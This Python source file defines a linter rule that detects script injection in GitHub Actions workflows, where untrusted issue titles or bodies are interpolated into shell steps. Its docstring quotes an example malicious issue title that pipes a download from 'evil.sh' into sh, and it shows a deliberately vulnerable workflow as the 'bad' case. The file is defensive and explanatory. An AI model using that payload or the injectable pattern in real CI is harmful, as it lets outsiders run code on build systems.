from __future__ import annotations

from collections.abc import Iterator

from pytest_readiness import P1
from pytest_readiness import Finding
from pytest_readiness import rule
from pytest_readiness.formats.github.expressions import Reference
from pytest_readiness.formats.github.expressions import expressions
from pytest_readiness.formats.github.expressions import references
from pytest_readiness.formats.github.format import Step


@rule(
    "gha.script-injection",
    P1,
    on="gha.step",
    when=lambda step: any("${{" in text for text, _ in step.sources),
    category="Security & Compliance",
    remedy="pass the value through env and use it as a quoted shell variable",
    aliases=("zizmor:template-injection", "CKV_GHA_2"),
    standards=("OpenSSF Scorecard Dangerous-Workflow", "OWASP CICD-SEC-4"),
    effort="30m",
)
def check(step: Step) -> Iterator[Finding]:
    """A script does not interpolate text that an outsider can write.

    `${{ }}` is replaced before the shell starts: an issue called `"; curl evil.sh | sh; "` becomes part of the script.
    A variable set in `env` reaches the shell as data. Inputs of a workflow or action are advice, because only somebody
    who may start it chooses them.

    ```yaml bad
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        steps:
          - run: |
              echo start
              echo "${{ github.event.issue.title }}"  # <--
          - uses: actions/github-script@v7
            with:
              script: console.log("${{ github.event.issue.body }}")  # <--
          - env:
              TITLE: ${{ github.event.issue.title }}
            run: echo ${{ env.TITLE }}  # <--
    ```

    ```yaml good
    on: issues
    jobs:
      greet:
        runs-on: ubuntu-latest
        if: contains(github.event.issue.title, 'hello')
        steps:
          - run: echo "$TITLE" "${{ github.event.issue.number }}"
            env:
              TITLE: ${{ github.event.issue.title }}
          - run: echo "${{ contains(github.event.issue.title, 'bug') }}"
    ```
    """
    for text, keys in step.sources:
        written = dict(expressions(text))
        for reference in references(text):
            origin = _origin(step, reference)
            if origin is None:
                continue
            line = text.count("\n", 0, reference.offset)
            place = step.line(line, f"${{{{{written[reference.offset]}}}}}".partition("\n")[0], keys)
            if origin.untrusted:
                yield step.finding(f"{origin} is written by whoever opens the event and becomes part of the script", place)
            elif _is_free_input(step, origin):
                yield step.advice(f"{origin} becomes part of the script; through env it would be data", place)


def _origin(step: Step, reference: Reference) -> Reference | None:
    """The reference itself, or what the variable it reads was set from."""
    if not reference.shown:
        return None
    if reference.parts[0] == "env" and len(reference.parts) == 2:
        values = {name.lower(): value for name, value in step.all_env.items()}
        inner = references(str(values.get(reference.parts[1], "")))
        return next((found for found in inner if found.untrusted), None)
    return reference


def _is_free_input(step: Step, reference: Reference) -> bool:
    """Whether it is an input of free text, not a number, a choice or a boolean."""
    parts = reference.parts
    is_input = parts[:-1] in (("inputs",), ("github", "event", "inputs"))
    return is_input and step.input_type(parts[-1]) in ("string", "environment")
